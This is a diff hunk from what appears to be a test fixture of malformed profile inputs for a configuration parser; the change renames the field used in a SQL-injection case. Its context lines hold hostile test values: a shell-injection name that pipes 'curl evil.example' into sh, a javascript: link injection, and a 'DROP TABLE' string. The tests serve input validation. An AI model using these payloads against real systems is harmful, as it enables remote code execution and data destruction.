@@ -128,7 +128,7 @@ OWN: dict[str, dict[str, str]] = {
         "newline-in-name": PROFILE.replace("base", '"x\\n## Injected heading\\n[a](javascript:alert(1))"'),
         "shell-in-name": PROFILE.replace("base", "'x; curl evil.example | sh;'"),
         "long-name": PROFILE.replace("base", "n" * 5000),
-        "choice-injection": PROFILE + "  tenancy: \"single-team'; DROP TABLE\"\n",
+        "choice-injection": PROFILE + "  workload_class: \"trading'; DROP TABLE\"\n",
         "list-for-bool": PROFILE + "  jitter_sensitive: [true]\n",
         "mapping-for-int": PROFILE + "  physical_hosts: {a: 1}\n",
         "wrong-version": PROFILE.replace("advisor_profile: 1", "advisor_profile: 99"),
